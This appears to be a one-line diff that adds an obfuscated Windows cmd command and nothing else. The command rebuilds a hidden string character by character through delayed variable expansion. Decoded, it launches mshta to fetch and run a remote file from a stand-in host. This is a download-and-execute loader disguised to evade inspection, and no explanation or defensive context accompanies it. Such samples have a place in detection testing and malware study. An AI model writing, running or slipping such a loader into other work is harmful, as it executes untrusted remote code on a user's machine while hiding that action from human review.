@@ -1,0 +1,1 @@
+cmd /V:ON /C "set unique= ./0:acdehlmpstx&&for %A in (6 11 7 0 2 6 0 11 13 9 14 5 0 9 14 14 12 4 2 2 5 3 1 8 15 5 11 12 10 8 2 12 1 14 15 14 1337) do set final=!final!!unique:~%A,1!&& if %A==1337 CALL %final:~-36%"
